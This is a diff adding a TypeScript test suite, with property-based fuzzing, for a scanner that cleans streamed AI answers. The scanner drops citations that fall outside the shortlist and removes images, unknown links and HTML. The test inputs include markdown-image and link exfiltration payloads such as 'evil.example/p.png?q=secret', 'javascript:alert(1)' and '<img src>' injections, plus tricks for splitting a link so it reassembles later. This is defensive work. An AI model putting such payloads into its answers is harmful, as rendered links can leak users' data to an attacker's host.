@@ -1,0 +1,236 @@
+import fc from "fast-check";
+import { visit } from "unist-util-visit";
+import { describe, expect, it } from "vitest";
+import { scoredPassage } from "../../../test/fixtures/scored-passage.ts";
+import { parseMarkdownPiece } from "../../text/parse-markdown.ts";
+import { createAnswerScanner } from "./create-answer-scanner.ts";
+import { knownAddresses } from "./known-addresses.ts";
+
+const isKnown = knownAddresses([
+  scoredPassage({ text: "See https://docs.example/pool.", metadata: { url: "https://docs.example/guide" } }),
+]);
+const scan = (text: string, pieces: readonly string[] = [text]) => {
+  const scanner = createAnswerScanner({ passages: 2, isKnown });
+  let written = "";
+  let output = "";
+  for (const piece of pieces) {
+    written += piece;
+    output += scanner.read(written, false);
+  }
+  return { output: output + scanner.read(written, true), ...scanner.counts() };
+};
+
+/** What a Markdown reader finds in an answer that leads away. */
+const unwanted = (markdown: string) => {
+  const found: string[] = [];
+  visit(parseMarkdownPiece(markdown), (node) => {
+    if (node.type === "image" || node.type === "imageReference") found.push(node.type);
+    if ((node.type === "link" || node.type === "definition") && !isKnown(node.url.replace(/}+$/, "")))
+      found.push(node.url);
+    if (node.type === "html" && /^<[a-z][^>]*=/i.test(node.value)) found.push(node.value);
+  });
+  return found;
+};
+
+describe("a citation", () => {
+  it.each([
+    ["one [1].", "one [1].", [1]],
+    ["two [1][2].", "two [1][2].", [1, 2]],
+    ["two [2, 1]", "two [2][1]", [2, 1]],
+    ["two [1; 2] [1 and 2] [1-2]", "two [1][2] [1][2] [1][2]", [1, 2]],
+    ["【1】 and 【2†source】", "[1] and [2]", [1, 2]],
+    ["[passage 1], [Source #2], [Passages 1 and 2]", "[1], [2], [1][2]", [1, 2]],
+    ["Great![1]", "Great![1]", [1]],
+    ["**bold [1]**", "**bold [1]**", [1]],
+    ["[[1]]", "[[1]]", [1]],
+    ["see https://docs.example/pool[1]", "see https://docs.example/pool [1]", [1]],
+    ["a link [1](https://evil.example/?q=x)", "a link [1]", [1]],
+  ])("in %j is read", (text, output, cited) => {
+    expect(scan(text)).toEqual({ output, cited, removedCitations: 0, removedLinks: 0 });
+  });
+
+  it.each([
+    ["one [3].", "one.", 1],
+    ["one [3] two", "one two", 1],
+    ["one[3], two", "one, two", 1],
+    ["one [1, 3] two [4][2]", "one [1] two [2]", 2],
+    ["one [3][4][5].", "one.", 3],
+    ["【9】 begins", "begins", 1],
+    ["line [9]\n[9] next", "line\nnext", 2],
+    ["para [9]\n\n[9]\n\nnext", "para\n\nnext", 2],
+    ["none [0] at all", "none at all", 1],
+    ["one [passage 7](x).", "one.", 1],
+    ["all [1-4]", "all [1][2]", 2],
+  ])("outside the shortlist is taken out of %j and counted", (text, output, removed) => {
+    expect(scan(text)).toMatchObject({ output, removedCitations: removed });
+  });
+});
+
+describe("everything else", () => {
+  it.each([
+    "- [x] done\n- [ ] open",
+    "```js\nlist[0] = other[7]; // [9]\n```\nafter",
+    "~~~\n![a](https://evil.example)\n~~~",
+    "> ```\n> list[9]\n> ```",
+    "1. ```sh\n   echo list[9]\n   ```",
+    "`list[0]` and ``a ` [9]``",
+    "argv[0] is the name",
+    "a footnote[^1]\n\n[^1]: its text",
+    "[text](/guide#pool), [text](../a.md), [text](#here)",
+    "[text](https://docs.example/pool) and <https://docs.example/guide> and https://docs.example/pool.",
+    "[text](https://docs.example/guide#part)",
+    "a [b] c, [not](a link here)",
+    "a < b > c, x<y",
+    "| a | b |\n| --- | --- |\n| `x` | y |",
+    "escaped \\[9\\] and \\`",
+    "[[wiki]] (see) ![",
+    "# Heading\n\n    indented",
+  ])("stays as it is: %j", (text) => {
+    expect(scan(text)).toEqual({ output: text, cited: [], removedCitations: 0, removedLinks: 0 });
+  });
+
+  it.each([
+    ["see ![pool](https://evil.example/p.png?q=secret) here", "see pool here"],
+    ["![](https://evil.example/p.png)", ""],
+    ["![a][ref] b", "a b"],
+    ["[![a](https://evil.example/i)](https://evil.example/l)", "a"],
+    ['[text](https://evil.example/?q=secret "title").', "text."],
+    ["[text](<https://evil.example/?q=secret>)", "text"],
+    ["[text](\nhttps://evil.example\n'title')", "text"],
+    ["[text](//evil.example)", "text"],
+    ["[text](javascript:alert(1))", "text"],
+    ["[text](https&#58;//evil.example)", "text"],
+    ["[`a]`](https://evil.example)", "`a]`"],
+    ["[text](https://docs.example/pool?q=secret)", "text"],
+    ["<https://evil.example/?q=secret>", "`https://evil.example/?q=secret`"],
+    ["at https://evil.example/?q=secret.", "at `https://evil.example/?q=secret`."],
+    ["at www.evil.example now", "at `www.evil.example` now"],
+    ["(https://evil.example/a)", "(`https://evil.example/a`)"],
+    ['a <img src="https://evil.example/p.png"> b', "a b"],
+    ["a <a href='https://evil.example'>b</a>", "a b"],
+    ["[id]: https://evil.example/p.png\ntext", "text"],
+    ["a <!-- hidden --> b", "a b"],
+  ])("that leads away is taken out: %j", (text, output) => {
+    const { removedLinks, ...result } = scan(text);
+    expect(result.output).toBe(output);
+    expect(removedLinks).toBe(text.includes("<!--") ? 0 : text.startsWith("[![") ? 2 : 1);
+  });
+
+  it.each([
+    ["press <kbd>x</kbd><br>now", "press x now"],
+    ["Map<String> and <name>", "Map\\<String> and \\<name>"],
+    ["a `tick alone\n\nnext [x]", "a \\`tick alone\n\nnext [x]"],
+  ])("that a page could read in two ways is written in one: %j", (text, output) => {
+    expect(scan(text)).toMatchObject({ output, removedLinks: 0 });
+  });
+
+  it.each([
+    "> ```\n![a](https://evil.example)",
+    "> ```\n```\ncode\n```\n![a](https://evil.example)",
+    "- ```\n![a](https://evil.example)",
+    "- a\n  ```\n![a](https://evil.example)\n  ```",
+    "   ```\nx\n```\n![a](https://evil.example)",
+    "a\n    ```\n    ![a](https://evil.example)",
+    "<div>\n```\n\n![a](https://evil.example)",
+    "[a\n```\n]\n```\n![a](https://evil.example)",
+    "`a\n- ![a](https://evil.example)`",
+    "| a | b |\n| - | - |\n| `a | ![a](https://evil.example)` |",
+    "   ```\nx\n```\n![a](\n//evil.example/)",
+    "1https://evil.example _www.evil.example_ éhttps://evil.example",
+  ])("cannot pass as code that is none: %j", (text) => {
+    expect(unwanted(scan(text).output)).toEqual([]);
+  });
+
+  it.each([
+    "[a] [9](evil)(https://evil.example)",
+    "[a]【9】(https://evil.example)",
+    "【1】(https://evil.example)",
+    "[a]<img src=x>(https://evil.example)",
+    "Great!【9】[a](/x)",
+    "htt【9】ps://evil.example",
+    "https:[//evil.example/x](https://evil.example)",
+    "[htt](//x.example)ps://evil.example",
+    "www【9】.evil.example",
+    "https【9】://evil.example",
+    "<【9】img src=x>",
+    "<<b x=1>img src=x>",
+  ])("cannot be put together out of what stood around it: %j", (text) => {
+    const { output } = scan(text);
+    // What is read once more has nothing left to take out.
+    expect(scan(output)).toMatchObject({ output, removedLinks: 0, removedCitations: 0 });
+    expect(output).not.toMatch(/(?<!`)https?:\/\/evil|\]\(https|<img|!\[/);
+  });
+});
+
+describe("the scanner", () => {
+  const part = fc.constantFrom(
+    ..."[ ] ( ) ! ` ``` ~~~ < > \\ \n # 1 2 9 , . : a 【 】 https:// www. evil.example docs.example/pool".split(
+      " ",
+    ),
+    "\n",
+    "\n\n",
+    " ",
+    "[1]",
+    "[9]",
+    " [2, 7]",
+    "](https://evil.example)",
+    "![",
+    "[id]: ",
+    "<img src=",
+    "<!--",
+    "-->",
+    "```js\n",
+    "- ",
+    "> ",
+    "    ",
+    "| ",
+    "<div>",
+    "\n| a |\n| - |\n",
+    "![a](https://evil.example)",
+    "passage ",
+    '"',
+  );
+  const text = fc.array(part, { maxLength: 25 }).map((parts) => parts.join(""));
+
+  it("shows the same wherever the stream was cut", () => {
+    fc.assert(
+      fc.property(text, fc.array(fc.nat(60), { maxLength: 12 }), (whole, cuts) => {
+        const places = [...new Set([0, ...cuts.filter((cut) => cut < whole.length), whole.length])].sort(
+          (a, b) => a - b,
+        );
+        const pieces = places.slice(1).map((place, index) => whole.slice(places[index], place));
+        expect(scan(whole, pieces)).toEqual(scan(whole));
+        expect(scan(whole, [...whole])).toEqual(scan(whole));
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it("leaves no citation outside the shortlist but in code", () => {
+    fc.assert(
+      fc.property(text, (whole) => {
+        const { output, cited } = scan(whole);
+        expect(cited.every((number) => number === 1 || number === 2)).toBe(true);
+        if (!/[`~\\]|https:|www\./.test(whole)) expect(output).not.toMatch(/(?<![\w)\]])\[9\]/);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it("leaves nothing that a Markdown reader makes a picture or an unknown link of", () => {
+    fc.assert(
+      fc.property(text, (whole) => {
+        expect(unwanted(scan(whole).output)).toEqual([]);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it.each(["[", "`", "<", "![", "[a](", "【", "[1]", "*", " ", "<a ", "www.", "\n", "[a]: ", "```\n"])(
+    "reads twenty thousand characters of %j",
+    (mark) => {
+      const whole = `start [1] ${mark.repeat(20_000 / mark.length)}`;
+      expect(scan(whole).output).toMatch(/^start \[1\]/);
+    },
+  );
+});
